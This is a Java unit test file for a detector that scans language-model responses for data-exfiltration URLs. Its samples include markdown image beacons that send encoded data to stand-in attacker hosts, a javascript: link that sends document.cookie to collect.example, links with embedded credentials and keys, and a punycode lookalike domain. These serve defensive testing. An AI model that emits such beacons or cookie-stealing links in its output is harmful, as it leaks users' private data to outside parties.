package dev.llmguard.detect.exfiltration;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.llmguard.GuardConfigurationException;
import dev.llmguard.spi.Category;
import dev.llmguard.spi.Confidence;
import dev.llmguard.spi.DetectorConfig;
import dev.llmguard.spi.DetectorProvider;
import dev.llmguard.spi.Finding;
import dev.llmguard.spi.Phase;
import dev.llmguard.spi.ScanInput;
import dev.llmguard.spi.Span;
import dev.llmguard.testkit.DetectorContractTest;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class ExfiltrationDetectorTest extends DetectorContractTest {

  @Override
  protected DetectorProvider provider() {
    return new ExfiltrationDetectorProvider();
  }

  @Override
  protected List<String> positiveSamples() {
    return List.of(
        fixture("image-query-exfil.md"),
        fixture("reference-image-exfil.md"),
        fixture("html-img-ip.md"),
        fixture("link-attacks.md"),
        fixture("obfuscated-scheme.html"));
  }

  @Test
  void aMarkdownImageSendingBase64DataToAnUnknownHostScoresHighest() {
    String text = fixture("image-query-exfil.md");
    Finding f = only(text);
    assertThat(f.category()).isEqualTo(Category.IMPROPER_OUTPUT);
    assertThat(f.score()).isEqualTo(0.97);
    assertThat(f.confidence()).isEqualTo(Confidence.HIGH);
    assertThat(f.metadata())
        .containsEntry("kind", "markdown_image")
        .containsEntry("host", "cdn-metrics.attacker-analytics.example")
        .containsEntry("signals", "data_in_query,parameters");
    assertThat(covered(text, f))
        .startsWith("https://cdn-metrics.attacker-analytics.example/pixel.png?session=7731&d=")
        .endsWith("ZyBmcmVlemUgbGlmdGVk");
    assertThat(f.message())
        .isEqualTo(
            "markdown image sends data in its query to cdn-metrics.attacker-analytics.example");
  }

  @Test
  void aReferenceStyleImageIsResolvedThroughItsDefinition() {
    String text = fixture("reference-image-exfil.md");
    Finding f = only(text);
    assertThat(f.metadata()).containsEntry("kind", "markdown_image");
    assertThat(f.score()).isEqualTo(0.97);
    assertThat(covered(text, f)).startsWith("https://status-check.example/badge.svg?k=sk-live-");
  }

  @Test
  void anHtmlPixelToAnIpAddressCarryingEncodedDataIsReported() {
    String text = fixture("html-img-ip.md");
    Finding f = only(text);
    assertThat(f.metadata())
        .containsEntry("kind", "html_fetch")
        .containsEntry("host", "203.0.113.42")
        .containsEntry("signals", "data_in_query,parameters,ip_host");
    assertThat(f.score()).isGreaterThan(0.97);
    assertThat(covered(text, f)).startsWith("http://203.0.113.42/c.gif?u=").endsWith("attached");
  }

  @Test
  void linkAttacksAreEachReportedWithTheirReason() {
    String text = fixture("link-attacks.md");
    List<Finding> found = detectResponse(text);
    assertThat(found)
        .extracting(f -> f.metadata().get("signals"))
        .containsExactly(
            "script_scheme",
            "credentials",
            "punycode_host",
            "active_data_url",
            "data_in_query",
            "data_url");
    assertThat(covered(text, found.get(0)))
        .isEqualTo("javascript:fetch('https://collect.example/?c='+document.cookie)");
    assertThat(found.get(0).score()).isEqualTo(0.9);
    assertThat(covered(text, found.get(1)))
        .isEqualTo("https://admin:S3cretPass2024@grafana.ops.example/d/latency");
    assertThat(found.get(1).message()).doesNotContain("S3cretPass2024");
    assertThat(found.get(2).metadata()).containsEntry("host", "xn--pypal-4ve.com");
    assertThat(found.get(3).metadata()).containsEntry("kind", "html_link");
    assertThat(found.get(4).score()).isEqualTo(0.65);
    assertThat(found.get(5).metadata()).containsEntry("kind", "markdown_image");
  }

  @Test
  void aScriptSchemeHiddenBehindCharacterReferencesIsStillFound() {
    Finding f = only(fixture("obfuscated-scheme.html"));
    assertThat(f.metadata()).containsEntry("signals", "obfuscated_scheme");
    assertThat(f.score()).isEqualTo(0.8);
  }

  @Test
  void urlsAreFoundInEveryMarkdownAndHtmlForm() {
    String text = fixture("url-forms.md");
    List<Finding> found = detectResponse(text);
    assertThat(found)
        .extracting(f -> f.metadata().get("kind") + " " + f.metadata().get("signals"))
        .containsExactly(
            "markdown_image data_in_query,parameters",
            "html_fetch data_in_query,parameters",
            "markdown_image ip_host",
            "markdown_link ip_host",
            "markdown_image data_in_query,parameters",
            "html_link script_scheme");
    assertThat(covered(text, found.get(0)))
        .isEqualTo("https://beacon.example/i.png?d=QWxpY2UgU21pdGggLSBzYWxhcnkgOTUwMDA");
    assertThat(found.get(2).metadata()).containsEntry("host", "[2001:db8::7]");
    assertThat(found.get(3).metadata()).containsEntry("host", "3405803786");
    assertThat(found.get(4).metadata()).containsEntry("host", "beacon.example");
    assertThat(covered(text, found.get(5))).isEqualTo("java\nscript:alert(1)");
  }

  @Test
  void anOrdinaryAnswerWithLinksImagesAndBadgesIsClean() {
    assertThat(detectResponse(fixture("benign.md"))).isEmpty();
  }

  @Test
  void allowedHostsAndTheirSubdomainsMayReceiveDataButLookAlikesMayNot() {
    ExfiltrationDetector allowing =
        ExfiltrationDetector.create(
            DetectorConfig.of(
                "exfiltration", Map.of("allowed-hosts", "*.corp.example, docs.example")));
    String text = fixture("allowed-host.md");
    List<Finding> found = allowing.detect(ScanInput.of(Phase.RESPONSE, text));
    assertThat(found)
        .extracting(f -> f.metadata().get("host"))
        .containsExactly("corp.example.evil.example", "evilcorp.example");
    assertThat(detectResponse(text)).hasSize(4);
  }

  @Test
  void credentialsAreReportedEvenOnAnAllowedHost() {
    ExfiltrationDetector allowing =
        ExfiltrationDetector.create(
            DetectorConfig.of("exfiltration", Map.of("allowed-hosts", "ops.example")));
    List<Finding> found =
        allowing.detect(
            ScanInput.of(
                Phase.RESPONSE, "[dash](https://admin:hunter22@grafana.ops.example/d/latency)"));
    assertThat(found).extracting(f -> f.metadata().get("signals")).containsExactly("credentials");
  }

  @Test
  void imagesScoreHigherThanLinksForTheSameUrl() {
    String url = "https://collect.example/p?d=QWxpY2UgU21pdGggLSBzYWxhcnkgOTUwMDA";
    double image = only("![x](" + url + ")").score();
    double link = only("[x](" + url + ")").score();
    double bare = only("see " + url + " now").score();
    assertThat(image).isGreaterThan(link);
    assertThat(link).isEqualTo(bare).isEqualTo(0.65);
  }

  @Test
  void theFindingCountIsCapped() {
    String many = "![](https://x.example/p?d=QWxpY2UgU21pdGggLSBzYWxhcnkgOTUwMDA)\n".repeat(80);
    assertThat(detectResponse(many)).hasSize(ExfiltrationDetector.DEFAULT_MAX_FINDINGS);
  }

  @Test
  void anImageNestedInManyBracketsIsFoundAsWhenItStandsAlone() {
    String image = fixture("image-query-exfil.md").strip();
    Finding alone = only(image);
    for (int depth : new int[] {1, 7, 8, 9, 20, 63}) {
      String nested = "[".repeat(depth) + image;
      List<Finding> found = detectResponse(nested);
      assertThat(found).as("inside %d brackets", depth).hasSize(1);
      assertThat(found.get(0).metadata()).isEqualTo(alone.metadata());
      assertThat(found.get(0).spans().get(0).start())
          .isEqualTo(alone.spans().get(0).start() + depth);
    }
  }

  @Test
  void urlsOfTheSameKindAndReasonsShareTheirWordsButNotTheirHosts() {
    String text =
        "![a](https://One.Example/p?d=QWxpY2UgU21pdGggLSBzYWxhcnkgOTUwMDA)\n"
            + "![b](https://two.example/p?d=Qm9iIEpvbmVzIC0gc2FsYXJ5IDg1MDAw)\n"
            + "see postgres://admin@ and ftp://guest@ for the dumps\n";
    List<Finding> found = detectResponse(text);

    assertThat(found).hasSize(4);
    assertThat(found.get(0).message()).endsWith(" to one.example");
    assertThat(found.get(1).message()).endsWith(" to two.example");
    assertThat(found.get(0).metadata()).containsEntry("host", "one.example");
    assertThat(found.get(1).metadata()).containsEntry("host", "two.example");
    assertThat(found.get(0).metadata().get("signals"))
        .isEqualTo(found.get(1).metadata().get("signals"));
    assertThat(found.get(2).metadata())
        .doesNotContainKey("host")
        .isEqualTo(found.get(3).metadata());
    assertThat(found.get(2).spans()).isNotEqualTo(found.get(3).spans());
  }

  @Test
  void adversarialBracketSoupYieldsNoFalseFindings() {
    String soup = "[[[[](](](](![](![](<img<img <a href=".repeat(2000) + "]]]]))))";
    assertThat(detectResponse(soup)).isEmpty();
  }

  @Test
  void badConfigurationIsRejectedWithTheFullKey() {
    assertThatThrownBy(
            () ->
                ExfiltrationDetector.create(
                    DetectorConfig.of(
                        "exfiltration", Map.of("allowed-hosts", "https://x.example/"))))
        .isInstanceOf(GuardConfigurationException.class)
        .hasMessage(
            "llmguard.detector.exfiltration.allowed-hosts must list host names such as"
                + " example.com but contained 'https://x.example/'");
    assertThatThrownBy(
            () ->
                ExfiltrationDetector.create(
                    DetectorConfig.of("exfiltration", Map.of("long-value", "2"))))
        .isInstanceOf(GuardConfigurationException.class)
        .hasMessage("llmguard.detector.exfiltration.long-value must be at least 8 but was 2");
  }

  private Finding only(String text) {
    List<Finding> found = detectResponse(text);
    assertThat(found).as("findings for %s", text).hasSize(1);
    return found.get(0);
  }

  private List<Finding> detectResponse(String text) {
    return detector.detect(ScanInput.of(Phase.RESPONSE, text));
  }

  private static String covered(String text, Finding f) {
    assertThat(f.spans()).hasSize(1);
    Span s = f.spans().get(0);
    return text.substring(s.start(), s.end());
  }

  static String fixture(String name) {
    try (InputStream in =
        ExfiltrationDetectorTest.class.getResourceAsStream("/fixtures/exfiltration/" + name)) {
      if (in == null) {
        throw new IllegalStateException("missing fixture " + name);
      }
      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }
}
